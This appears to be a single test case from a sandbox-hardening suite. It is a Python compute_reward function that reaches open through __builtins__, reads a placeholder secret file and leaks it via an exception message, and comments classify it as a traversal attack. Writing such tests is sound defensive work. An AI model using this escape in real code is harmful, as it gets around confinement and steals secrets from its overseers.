# attack: the name __builtins__
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
    raise ValueError(b["open"]("@SECRET@").read())
